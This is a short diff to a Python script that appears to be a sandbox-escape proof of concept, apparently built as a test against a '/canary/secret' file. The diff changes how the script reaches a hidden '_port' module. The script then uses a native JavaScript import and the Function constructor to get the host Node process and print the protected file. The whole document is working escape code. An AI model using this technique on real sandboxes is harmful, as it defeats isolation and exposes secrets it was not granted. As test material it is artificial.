@@ -1,7 +1,7 @@
 """Make a function from text: it sees what the loader hides."""
 
-import machine
+import sys
 
-js = machine._clock._port.native_import("js")
+js = sys.modules["_port"].native_import("js")
 process = js.Object.constructor("return process")()
 print(process.getBuiltinModule("fs").readFileSync("/canary/secret", "utf8"))
